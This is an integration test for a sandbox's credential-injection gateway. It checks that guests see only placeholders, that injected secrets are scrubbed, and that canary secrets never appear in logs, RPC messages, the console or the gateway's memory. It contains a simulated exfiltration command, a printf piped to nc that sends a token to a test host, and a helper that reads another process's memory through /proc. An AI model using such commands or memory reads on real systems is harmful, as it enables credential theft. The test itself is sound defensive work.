// docs/redteam-cases.md I4 through the whole helper: a real airlockd (its own network namespace,
// the most verbose logging: --log-level trace and QT_LOGGING_RULES="*.debug=true", passed on to its
// gateway), a vault secret bound to api.test, a real TCG guest (the busybox image) and local
// upstream servers. The guest sees only the placeholder (/run/airlock/env, exported by its
// profile); its cleartext request with the placeholder is refused as credential_exfil; an HTTPS
// request for api.test gets the value injected and the reflection scrubbed; the per-binding
// counters move; removing the binding reaches the running gateway. Then the secret, raw,
// base64 or percent-encoded, is searched in every file under the state dir (logs, audit log,
// registry with the egress history, vault files, gateway logs), airlockd's stdout and stderr,
// every RPC message (events, console output) and the guest's console.
//
//   guest ──tap── [helper ns: airlockd, gateway, table; the test's TLS client] ──veth
//   198.51.100.0/24── [upstream ns: api.test 198.51.100.20:443, pkg.test 198.51.100.10:80, DNS]
//
// The busybox guest has no TLS client that the gateway accepts (tst_egresse2e), so the HTTPS
// request comes from the helper's namespace: an nftables rule of the test sends its connection
// to GW:443 to the gateway's listener (dnat, so SO_ORIGINAL_DST is GW:443), as the sandbox's
// table does for the guest's.

#include "core/gateway/credentials/credentialpatterns.h"
#include "core/net/helperinstance.h"
#include "core/net/tapdevice.h"
#include "gatewaytopology.h"
#include "programrun.h"
#include "rpctestclient.h"

#include <QCoreApplication>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>
#include <fcntl.h>
#include <future>
#include <sched.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

using airlock::test::ConnectionRecord;
using airlock::test::GatewayTopology;
using airlock::test::GuestConnection;
using airlock::test::HttpResponse;
using airlock::test::RpcTestClient;
using airlock::test::runProgram;
using airlock::test::ServerEndpoint;
using namespace Qt::StringLiterals;

namespace {

const QString kName = u"leaks"_s;
const QByteArray kSecret = "ghp_Leak/Canary+9x=Zq~42!kWm"_ba;
const QByteArray kSecond = "ghp_Second/Value+7y=Rt~13!pQ"_ba; ///< secret.set while running
const QHostAddress kApiAddress = airlock::test::topo::ApiServer;
const QHostAddress kPkgAddress = airlock::test::topo::PkgServer;
constexpr int kBootTimeoutMs = 120000;

QString leakedForms(const QByteArray &haystack, const QString &where)
{
    QStringList found;
    for (const QByteArray &form :
         airlock::gateway::credentialForms(kSecret) + airlock::gateway::credentialForms(kSecond)) {
        if (haystack.contains(form))
            found << QString::fromLatin1(form);
    }
    return found.isEmpty() ? QString()
                           : u"the secret appears in %1 as %2"_s.arg(where, found.join(u", "));
}

/// Every form of either secret found in the readable memory of process `pid`
/// (/proc/PID/maps and /proc/PID/mem; root may read a non-dumpable process). Empty when none.
QString leakedFormsInMemory(pid_t pid)
{
    QFile maps(u"/proc/%1/maps"_s.arg(pid));
    const int mem = ::open(QByteArray("/proc/" + QByteArray::number(pid) + "/mem").constData(),
                           O_RDONLY | O_CLOEXEC);
    if (!maps.open(QIODevice::ReadOnly) || mem < 0) {
        if (mem >= 0)
            ::close(mem);
        return u"cannot read the memory of process %1"_s.arg(pid);
    }
    QStringList found;
    const QList<QByteArray> forms =
        airlock::gateway::credentialForms(kSecret) + airlock::gateway::credentialForms(kSecond);
    for (const QByteArray &line : maps.readAll().split('\n')) {
        const QList<QByteArray> fields = line.simplified().split(' ');
        if (fields.size() < 2 || !fields.at(1).startsWith('r') || line.contains("[vvar]")
            || line.contains("[vsyscall]"))
            continue;
        const QList<QByteArray> range = fields.at(0).split('-');
        const quint64 begin = range.value(0).toULongLong(nullptr, 16);
        const quint64 end = range.value(1).toULongLong(nullptr, 16);
        if (end <= begin || end - begin > 1024ull * 1024 * 1024)
            continue;
        QByteArray bytes(qsizetype(end - begin), Qt::Uninitialized);
        const ssize_t got = ::pread(mem, bytes.data(), size_t(bytes.size()), off_t(begin));
        if (got <= 0)
            continue;
        bytes.truncate(got);
        for (const QByteArray &form : forms) {
            const qsizetype at = bytes.indexOf(form);
            if (at < 0)
                continue;
            // What surrounds it says which buffer kept it.
            QByteArray context = bytes.mid(qMax<qsizetype>(0, at - 48), form.size() + 96);
            for (char &c : context)
                c = (c >= 0x20 && c < 0x7f) ? c : '.';
            found << u"%1 in %2 (…%3…)"_s.arg(QString::fromLatin1(form), QString::fromLatin1(line),
                                              QString::fromLatin1(context));
        }
    }
    ::close(mem);
    return found.isEmpty() ? QString()
                           : u"process %1 still holds: %2"_s.arg(pid).arg(found.join(u"; "));
}

} // namespace

/// QVERIFY2 on leakedForms(): passes when it returned an empty string.
#define REDTEAM_CHECK_LEAK(expression)                                                             \
    do {                                                                                           \
        const QString leak_ = (expression);                                                        \
        QVERIFY2(leak_.isEmpty(), qPrintable(leak_));                                              \
    } while (false)

class TestRedteamCredentialLeaks : public QObject
{
    Q_OBJECT

private:
    QJsonObject call(const QString &method, const QJsonObject &params, int timeoutMs = 10000)
    {
        const QJsonObject response = m_client->call(method, params, timeoutMs);
        m_rpcSeen += QJsonDocument(response).toJson(QJsonDocument::Compact) + '\n';
        return response;
    }
    /// Reads messages (console output, events) until `needle` is in the console after `from`.
    bool waitForConsole(const QByteArray &needle, qsizetype from, int timeoutMs)
    {
        QDeadlineTimer deadline(timeoutMs);
        while (m_console.indexOf(needle, from) < 0) {
            if (deadline.hasExpired())
                return false;
            pump(500);
        }
        return true;
    }
    void pump(int timeoutMs)
    {
        const auto message = m_client->readMessage(timeoutMs);
        if (!message)
            return;
        m_rpcSeen += QJsonDocument(*message).toJson(QJsonDocument::Compact) + '\n';
        const QString method = message->value(u"method"_s).toString();
        const QJsonObject params = message->value(u"params"_s).toObject();
        if (method == u"console.output")
            m_console += QByteArray::fromBase64(params.value(u"data"_s).toString().toLatin1());
        else if (method == u"egress.event")
            m_events.append(params.value(u"event"_s).toObject());
    }
    bool runInGuest(const QByteArray &command, const QByteArray &needle, int timeoutMs)
    {
        const qsizetype from = m_console.size();
        call(u"console.write"_s,
             {{u"name"_s, kName}, {u"data"_s, QString::fromLatin1((command + '\n').toBase64())}});
        return waitForConsole(needle, from, timeoutMs);
    }
    std::optional<QJsonObject> event(const std::function<bool(const QJsonObject &)> &match,
                                     int timeoutMs = 15000)
    {
        QDeadlineTimer deadline(timeoutMs);
        for (;;) {
            for (const QJsonObject &e : std::as_const(m_events)) {
                if (match(e))
                    return e;
            }
            if (deadline.hasExpired())
                return std::nullopt;
            pump(300);
        }
    }
    QJsonObject binding()
    {
        const QJsonObject list =
            RpcTestClient::result(call(u"binding.list"_s, {{u"sandbox"_s, kName}}));
        return list.value(u"bindings"_s).toArray().at(0).toObject();
    }
    /// One HTTPS request for api.test from the helper's namespace through the gateway.
    HttpResponse apiRequest(const QByteArray &request)
    {
        const int ns = ::open(
            QFile::encodeName(u"/run/netns/"_s + m_net->helper().networkNamespace()).constData(),
            O_RDONLY | O_CLOEXEC);
        if (ns < 0)
            return {};
        auto connection = GuestConnection::connect(ns, m_gateway, 443);
        ::close(ns);
        if (!connection || !connection->startTls("api.test"_ba, m_sandboxCaPem, u"api.test"_s)
            || !connection->send(request))
            return {};
        HttpResponse response = connection->readResponse();
        m_clientSaw += response.head + response.body;
        return response;
    }

    QTemporaryDir m_dir {QDir::tempPath() + u"/airlock-leaks-XXXXXX"_s};
    std::unique_ptr<GatewayTopology> m_net;
    std::unique_ptr<RpcTestClient> m_client;
    QHostAddress m_gateway;
    QByteArray m_sandboxCaPem;
    QByteArray m_placeholder;
    qint64 m_bindingId = 0;
    QByteArray m_console;
    QByteArray m_rpcSeen;
    QByteArray m_clientSaw;
    QList<QJsonObject> m_events;

private Q_SLOTS:
    void initTestCase()
    {
        if (::geteuid() != 0)
            QSKIP("needs root (network namespaces, taps, nftables)");
        if (qEnvironmentVariable("AIRLOCK_GATEWAY").isEmpty())
            QSKIP("AIRLOCK_GATEWAY is not set (run through ctest)");
        QVERIFY(m_dir.isValid());
        ::chmod(QFile::encodeName(m_dir.path()).constData(), 0711);

        // The most verbose level everywhere: airlockd's own, Qt's categories (inherited), and
        // airlockd hands --log-level trace to its gateway.
        qputenv("QT_LOGGING_RULES", "*.debug=true");
        m_net = std::make_unique<GatewayTopology>(GatewayTopology::Options {
            .tag = u"cl"_s,
            .side = GatewayTopology::Side::Helper,
            .hosts = {{u"api.test"_s, kApiAddress}, {u"pkg.test"_s, kPkgAddress}},
            .servers = {{u"api"_s, kApiAddress, 443, ServerEndpoint::Kind::Https, u"api.test"_s},
                        {u"pkg"_s, kPkgAddress, 80, ServerEndpoint::Kind::Http, QString()}},
            .helperArguments = {u"--log-level"_s, u"trace"_s}});
        m_net->helper().setOutputFile(m_dir.filePath(u"airlockd.out"_s));
        QVERIFY2(m_net->start(), qPrintable(m_net->lastError()));
        const QString helperNs = m_net->helper().networkNamespace();

        m_client = std::make_unique<RpcTestClient>(m_net->helper().socketPath());
        QVERIFY(m_client->hello());
        QVERIFY(call(u"events.subscribe"_s, {}).contains(u"result"_s));
        QVERIFY(call(u"sandbox.create"_s, {{u"name"_s, kName}}).contains(u"result"_s));
        auto rule = [](const QString &host, int port) {
            return QJsonObject {{u"host"_s, host}, {u"ports"_s, QJsonArray {port}}};
        };
        const QJsonObject policy {
            {u"version"_s, 1},
            {u"rules"_s, QJsonArray {rule(u"api.test"_s, 443), rule(u"pkg.test"_s, 80)}}};
        QVERIFY(call(u"policy.set"_s, {{u"name"_s, kName}, {u"policy"_s, policy}})
                    .contains(u"result"_s));
        QVERIFY(call(u"secret.set"_s,
                     {{u"name"_s, u"api-token"_s}, {u"value"_s, QString::fromLatin1(kSecret)}})
                    .contains(u"result"_s));
        const QJsonObject added =
            RpcTestClient::result(call(u"binding.add"_s,
                                       {{u"sandbox"_s, kName},
                                        {u"secret"_s, u"api-token"_s},
                                        {u"host"_s, u"api.test"_s},
                                        {u"pathPrefix"_s, u"/v1"_s},
                                        {u"placement"_s,
                                         QJsonObject {{u"type"_s, u"header"_s},
                                                      {u"header"_s, u"Authorization"_s},
                                                      {u"template"_s, u"Bearer {secret}"_s}}}}));
        m_bindingId = added.value(u"id"_s).toInteger();
        QVERIFY(m_bindingId > 0);

        const QJsonObject started = call(u"sandbox.start"_s, {{u"name"_s, kName}}, 60000);
        QVERIFY2(started.contains(u"result"_s), QJsonDocument(started).toJson().constData());
        const QJsonObject attached =
            RpcTestClient::result(call(u"console.attach"_s, {{u"name"_s, kName}}));
        m_console = QByteArray::fromBase64(attached.value(u"data"_s).toString().toLatin1());
        QVERIFY2(waitForConsole("airlock-guest ready", 0, kBootTimeoutMs), m_console.constData());
        QVERIFY(runInGuest("echo boot-$((40+2))", "boot-42", 30000));

        // The gateway's address (the tap's), and the test's own redirect to its listener.
        QByteArray addresses;
        QVERIFY(
            runProgram(u"ip"_s,
                       {u"-n"_s, helperNs, u"-4"_s, u"-o"_s, u"addr"_s, u"show"_s, u"dev"_s,
                        airlock::TapDevice::interfaceName(
                            kName, airlock::HelperInstance::tagFor(m_net->helper().stateDir()))},
                       {}, &addresses));
        const auto match = QRegularExpression(u"inet (\\d+\\.\\d+\\.\\d+\\.\\d+)/"_s)
                               .match(QString::fromLatin1(addresses));
        QVERIFY2(match.hasMatch(), addresses.constData());
        m_gateway = QHostAddress(match.captured(1));
        const QByteArray rules = "table ip leaks-test {\n chain out {\n  type nat hook output "
                                 "priority -100; policy accept;\n  ip daddr "
            + m_gateway.toString().toLatin1() + " tcp dport 443 dnat to "
            + m_gateway.toString().toLatin1() + ":15001\n }\n}\n";
        QVERIFY(runProgram(u"ip"_s, {u"netns"_s, u"exec"_s, helperNs, u"nft"_s, u"-f"_s, u"-"_s},
                           rules));
        QFile sandboxCa(QDir(m_net->helper().stateDir()).filePath(u"ca/%1/ca.pem"_s.arg(kName)));
        QVERIFY(sandboxCa.open(QIODevice::ReadOnly));
        m_sandboxCaPem = sandboxCa.readAll();
    }

    void cleanupTestCase()
    {
        m_client.reset();
        m_net.reset(); // airlockd and its guest, the servers, the upstream namespace
        qunsetenv("QT_LOGGING_RULES");
    }

    // /run/airlock/env on the seed disk; the console shell exported it.
    void guestHoldsOnlyThePlaceholder()
    {
        QVERIFY(runInGuest("cat /run/airlock/env; echo \"v=$AIRLOCK_SECRET_API_TOKEN.\"",
                           "v=airlock-placeholder-", 10000));
        waitForConsole(".\r", m_console.lastIndexOf("v=airlock-placeholder-"), 5000);
        const auto found = QRegularExpression(u"v=(airlock-placeholder-[0-9a-f]{32})\\."_s)
                               .match(QString::fromLatin1(m_console));
        QVERIFY2(found.hasMatch(), m_console.right(500).constData());
        m_placeholder = found.captured(1).toLatin1();
        QVERIFY(m_console.contains("AIRLOCK_SECRET_API_TOKEN=" + m_placeholder));
    }

    // The guest sends the placeholder in cleartext: refused by the gateway, counted, alerted.
    void guestCleartextPlaceholderIsRefused()
    {
        QVERIFY(!m_placeholder.isEmpty());
        const qsizetype from = m_console.size();
        QVERIFY(runInGuest(
            "a=$(nslookup -type=a pkg.test 2>/dev/null | awk '/^Address/ {x=$NF} END {print x}');"
            " printf 'GET /collect HTTP/1.1\\r\\nHost: pkg.test\\r\\nAuthorization: Bearer "
            "%s\\r\\nConnection: close\\r\\n\\r\\n' \"$AIRLOCK_SECRET_API_TOKEN\" | nc -w 10 "
            "\"$a\" "
            "80; echo nc-$((6*7))-rc=$?",
            "nc-42-rc=", 60000));
        const QByteArray output = m_console.mid(from);
        QVERIFY2(output.contains("403") && output.contains("credential_exfil"), output.constData());
        const auto denied = event(
            [](const QJsonObject &e) { return e.value(u"reason"_s) == u"credential_exfil"_s; });
        QVERIFY(denied);
        QCOMPARE(denied->value(u"binding"_s).toInteger(), m_bindingId);
        QVERIFY(denied->value(u"alert"_s).toBool());
        QVERIFY(m_net->settle());
        QVERIFY(m_net->upstream().connections(u"pkg"_s).isEmpty());
        // Alerts are also audited on their own, where floods of ordinary events cannot rotate
        // them away (docs/reviews/2026-12-01-credentials-redteam.md#f6).
        QFile alerts(QDir(m_net->helper().stateDir()).filePath(u"audit/alerts.jsonl"_s));
        QTRY_VERIFY_WITH_TIMEOUT(alerts.exists() && alerts.size() > 0, 5000);
        QVERIFY(alerts.open(QIODevice::ReadOnly));
        const QByteArray lines = alerts.readAll();
        QVERIFY2(lines.contains("\"reason\":\"credential_exfil\""), lines.constData());
        QVERIFY2(!lines.contains("\"alert\":false") && lines.count('\n') >= 1, lines.constData());
    }

    // HTTPS for api.test: the value is injected exactly, the 401 reflection comes back with the
    // placeholder, and the binding's counters moved.
    void injectionAndReflection()
    {
        QVERIFY(!m_placeholder.isEmpty());
        const HttpResponse response =
            apiRequest("GET /v1/unauthorized HTTP/1.1\r\nHost: api.test\r\n"
                       "Authorization: Bearer "
                       + m_placeholder + "\r\n\r\n");
        QCOMPARE(response.status, 401);
        QVERIFY2(response.body.contains("invalid token " + m_placeholder),
                 response.body.constData());
        const auto api = m_net->upstream().connections(u"api"_s);
        QCOMPARE(api.size(), 1);
        QCOMPARE(api.first().requests.first().values("Authorization"),
                 QList<QByteArray> {"Bearer " + kSecret});
        const auto injected = event([](const QJsonObject &e) {
            return e.value(u"verdict"_s) == u"allowed"_s && e.contains(u"binding"_s);
        });
        QVERIFY(injected);
        QVERIFY(injected->value(u"scrubbed"_s).toInteger() >= 2);
        QVERIFY(injected->value(u"alert"_s).toBool());
        QTRY_VERIFY_WITH_TIMEOUT(
            binding().value(u"stats"_s).toObject().value(u"injections"_s).toInteger() == 1, 5000);
        const QJsonObject stats = binding().value(u"stats"_s).toObject();
        QCOMPARE(stats.value(u"denied"_s).toInteger(), 1);
        QVERIFY(stats.value(u"lastUsed"_s).isString());
        const QJsonObject secrets = RpcTestClient::result(call(u"secret.list"_s, {}));
        QCOMPARE(
            secrets.value(u"secrets"_s).toArray().at(0).toObject().value(u"useCount"_s).toInteger(),
            1);
    }

    // secret.set with a new value reaches the running gateway: the next request gets it.
    void replacedSecretReachesTheGateway()
    {
        QVERIFY(call(u"secret.set"_s,
                     {{u"name"_s, u"api-token"_s}, {u"value"_s, QString::fromLatin1(kSecond)}})
                    .contains(u"result"_s));
        m_net->upstream().clear();
        QTRY_VERIFY_WITH_TIMEOUT(
            [&] {
                const HttpResponse response =
                    apiRequest("GET /v1/y HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "
                               + m_placeholder + "\r\n\r\n");
                const auto api = m_net->upstream().connections(u"api"_s);
                return response.status == 200 && !api.isEmpty()
                    && api.last().requests.value(0).values("Authorization")
                    == QList<QByteArray> {"Bearer " + kSecond};
            }(),
            5000);
    }

    // A gateway that dies is restarted by airlockd and gets its credentials again.
    void restartedGatewayGetsTheCredentialsAgain()
    {
        // Its log starts afresh with the new process: searched now (I4), and again at the end.
        QFile gatewayLog(
            QDir(m_net->helper().stateDir()).filePath(u"log/gateway-%1.log"_s.arg(kName)));
        QVERIFY(gatewayLog.open(QIODevice::ReadOnly));
        const QByteArray gatewayBytes = gatewayLog.readAll();
        QVERIFY2(gatewayBytes.contains("credential_exfil") && gatewayBytes.contains("forwarding"),
                 gatewayBytes.right(1000).constData());
        REDTEAM_CHECK_LEAK(leakedForms(gatewayBytes, u"the first gateway's log"_s));
        QFile pidFile(QDir(m_net->helper().stateDir()).filePath(u"net/%1.gateway"_s.arg(kName)));
        QVERIFY(pidFile.open(QIODevice::ReadOnly));
        const pid_t pid = pid_t(pidFile.readAll().split(' ').value(0).toLongLong());
        QVERIFY(pid > 0);
        QCOMPARE(::kill(pid, SIGKILL), 0);
        QVERIFY(event(
            [](const QJsonObject &e) { return e.value(u"reason"_s) == u"gateway_restarted"_s; }));
        m_net->upstream().clear();
        QTRY_VERIFY_WITH_TIMEOUT(
            [&] {
                const HttpResponse response =
                    apiRequest("GET /v1/z HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "
                               + m_placeholder + "\r\n\r\n");
                const auto api = m_net->upstream().connections(u"api"_s);
                return response.status == 200 && !api.isEmpty()
                    && api.last().requests.value(0).values("Authorization")
                    == QList<QByteArray> {"Bearer " + kSecond};
            }(),
            10000);
    }

    // binding.remove reaches the running gateway: nothing is injected any more.
    void removedBindingStopsInjection()
    {
        QVERIFY(call(u"binding.remove"_s, {{u"id"_s, m_bindingId}}).contains(u"result"_s));
        m_net->upstream().clear();
        QTRY_VERIFY_WITH_TIMEOUT(
            [&] {
                const HttpResponse response =
                    apiRequest("GET /v1/x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "
                               + m_placeholder + "\r\n\r\n");
                const auto api = m_net->upstream().connections(u"api"_s);
                return response.status == 200 && !api.isEmpty()
                    && api.last().requests.value(0).values("Authorization")
                    == QList<QByteArray> {"Bearer " + m_placeholder};
            }(),
            5000);
    }

    // I4: the secret is nowhere: every file under the state dir, airlockd's output, every RPC
    // message, the guest's console, the test client's responses.
    void secretIsNowhere()
    {
        pump(500);
        const QString state = m_net->helper().stateDir();
        QStringList searched;
        bool sawVaultFile = false;
        QDirIterator files(state, QDir::Files | QDir::Hidden | QDir::System,
                           QDirIterator::Subdirectories);
        while (files.hasNext()) {
            const QString path = files.next();
            QFile file(path);
            if (!file.open(QIODevice::ReadOnly))
                continue; // sockets, FIFOs
            const QByteArray bytes = file.readAll();
            REDTEAM_CHECK_LEAK(leakedForms(bytes, path));
            searched << QDir(state).relativeFilePath(path);
            sawVaultFile = sawVaultFile || path.endsWith(u"/vault/api-token.secret"_s);
        }
        QVERIFY2(sawVaultFile, qPrintable(searched.join(u", ")));
        QVERIFY2(searched.contains(u"audit/egress.jsonl"_s), qPrintable(searched.join(u", ")));
        // The logs were verbose, and hold the decisions (so the search is not vacuous).
        QFile log(QDir(state).filePath(u"log/airlockd.log"_s));
        QVERIFY(log.open(QIODevice::ReadOnly));
        QVERIFY(log.readAll().contains(" debug "));
        QFile gatewayLog(QDir(state).filePath(u"log/gateway-%1.log"_s.arg(kName)));
        QVERIFY(gatewayLog.open(QIODevice::ReadOnly));
        const QByteArray gatewayBytes = gatewayLog.readAll();
        QVERIFY2(gatewayBytes.contains("forwarding"), gatewayBytes.right(1000).constData());
        QFile output(m_dir.filePath(u"airlockd.out"_s));
        QVERIFY(output.open(QIODevice::ReadOnly));
        REDTEAM_CHECK_LEAK(leakedForms(output.readAll(), u"airlockd's stdout and stderr"_s));
        const QJsonObject history = RpcTestClient::result(
            call(u"egress.history"_s, {{u"name"_s, kName}, {u"limit"_s, 1000}}));
        const QByteArray historyText = QJsonDocument(history).toJson(QJsonDocument::Compact);
        QVERIFY(historyText.contains("credential_exfil"));
        REDTEAM_CHECK_LEAK(leakedForms(historyText, u"egress.history"_s));
        REDTEAM_CHECK_LEAK(leakedForms(m_rpcSeen, u"the RPC messages"_s));
        REDTEAM_CHECK_LEAK(leakedForms(m_console, u"the guest's console"_s));
        REDTEAM_CHECK_LEAK(leakedForms(m_clientSaw, u"the responses through the gateway"_s));
    }

    // Issue 16: after the binding is gone the gateway keeps the old values scrub-only (an
    // upstream may still hand them back); once the secret is deleted from the vault, no value
    // of it stays in the gateway's memory.
    void deletedSecretLeavesTheGatewaysMemory()
    {
        const QString state = m_net->helper().stateDir();
        QFile pidFile(QDir(state).filePath(u"net/%1.gateway"_s.arg(kName)));
        QVERIFY(pidFile.open(QIODevice::ReadOnly));
        const pid_t gateway = pid_t(pidFile.readAll().split(' ').value(0).toLongLong());
        QVERIFY(gateway > 0);
        // Not vacuous: the scrub-only values are found where they are held.
        QVERIFY2(!leakedFormsInMemory(gateway).isEmpty(),
                 "the memory scan does not see the values the gateway holds");
        QVERIFY(call(u"secret.delete"_s, {{u"name"_s, u"api-token"_s}}).contains(u"result"_s));
        QFile gatewayLog(QDir(state).filePath(u"log/gateway-%1.log"_s.arg(kName)));
        QVERIFY(gatewayLog.open(QIODevice::ReadOnly));
        QByteArray logged;
        QTRY_VERIFY_WITH_TIMEOUT(
            (logged += gatewayLog.readAll()).contains("secret api-token deleted: forgot"), 10000);
        REDTEAM_CHECK_LEAK(leakedFormsInMemory(gateway));
    }

    // A binding added while the guest runs reaches its /run/airlock/env through the agent,
    // without a restart; one removed leaves it (GuestEnvDelivery). Only the placeholder.
    void bindingChangesReachTheRunningGuest()
    {
        QVERIFY(call(u"secret.set"_s, {{u"name"_s, u"env-token"_s}, {u"value"_s, u"env-value-1"_s}})
                    .contains(u"result"_s));
        const QJsonObject added =
            RpcTestClient::result(call(u"binding.add"_s,
                                       {{u"sandbox"_s, kName},
                                        {u"secret"_s, u"env-token"_s},
                                        {u"host"_s, u"api.test"_s},
                                        {u"placement"_s,
                                         QJsonObject {{u"type"_s, u"header"_s},
                                                      {u"header"_s, u"X-Token"_s},
                                                      {u"template"_s, u"{secret}"_s}}}}));
        const qint64 id = added.value(u"id"_s).toInteger();
        QVERIFY(id > 0);
        // The echoed command line never holds the answer ("has-1"), only the shell's output.
        const QByteArray count =
            "echo \"has-$(grep -c '^AIRLOCK_SECRET_ENV_TOKEN=airlock-placeholder-[0-9a-f]*$' "
            "/run/airlock/env)\"";
        QTRY_VERIFY_WITH_TIMEOUT(runInGuest(count, "has-1", 3000), 30000);
        QVERIFY(!m_console.contains("env-value-1"));
        QVERIFY(call(u"binding.remove"_s, {{u"id"_s, id}}).contains(u"result"_s));
        QTRY_VERIFY_WITH_TIMEOUT(runInGuest(count, "has-0", 3000), 30000);
    }
};

QTEST_GUILESS_MAIN(TestRedteamCredentialLeaks)
#include "tst_redteam_credentialleaks.moc"
